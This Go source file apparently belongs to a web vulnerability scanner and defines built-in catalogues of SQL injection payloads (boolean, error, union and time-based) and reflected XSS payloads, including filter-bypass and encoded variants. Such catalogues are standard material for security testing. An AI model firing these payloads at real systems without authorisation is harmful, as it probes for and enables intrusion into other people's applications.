package payloads

// SQL categories.
const (
	SQLBooleanBased = "boolean_based"
	SQLErrorBased   = "error_based"
	SQLUnionBased   = "union_based"
	SQLTimeBased    = "time_based"
)

// XSS categories.
const (
	XSSBasic      = "basic"
	XSSBypass     = "bypass"
	XSSEncoded    = "encoded"
	XSSHTML       = "html"
	XSSAttribute  = "attribute"
	XSSJavaScript = "javascript"
)

var (
	defaultSQL = mustCatalogue("sql", []Group{
		{Category: SQLBooleanBased, Payloads: []string{
			"' OR '1'='1",
			"' OR '1'='1' --",
			"' OR '1'='1' /*",
			"admin' OR '1'='1",
		}},
		{Category: SQLErrorBased, Payloads: []string{
			"'",
			`"`,
			"' OR 1=CONVERT(int, @@version)--",
			"' AND 1=CONVERT(int, @@version)--",
		}},
		{Category: SQLUnionBased, Payloads: []string{
			"' UNION SELECT NULL--",
			"' UNION SELECT NULL, NULL--",
			"' UNION SELECT @@version, NULL--",
		}},
		{Category: SQLTimeBased, Payloads: []string{
			"' OR SLEEP(5)--",
			"' OR (SELECT * FROM (SELECT(SLEEP(5)))a)--",
		}},
	})

	defaultXSS = mustCatalogue("xss", []Group{
		{Category: XSSBasic, Payloads: []string{
			"<script>alert('XSS')</script>",
			"<img src=x onerror=alert('XSS')>",
			"<svg onload=alert('XSS')>",
		}},
		{Category: XSSBypass, Payloads: []string{
			"<ScRiPt>alert('XSS')</ScRiPt>",
			"<img src=x OneRrOr=alert('XSS')>",
		}},
		{Category: XSSEncoded, Payloads: []string{
			"%3Cscript%3Ealert%28%27XSS%27%29%3C%2Fscript%3E",
			"&lt;script&gt;alert('XSS')&lt;/script&gt;",
		}},
		{Category: XSSHTML, Payloads: []string{
			`"><script>alert(1)</script>`,
			`'><script>alert(1)</script>`,
		}},
		{Category: XSSAttribute, Payloads: []string{
			`" onmouseover="alert(1)`,
			`' onmouseover='alert(1)`,
		}},
		{Category: XSSJavaScript, Payloads: []string{
			`';alert(1);//`,
			`";alert(1);//`,
		}},
	})
)

// DefaultSQL returns the built-in SQL injection catalogue.
func DefaultSQL() *Catalogue { return defaultSQL }

// DefaultXSS returns the built-in reflected-XSS catalogue.
func DefaultXSS() *Catalogue { return defaultXSS }
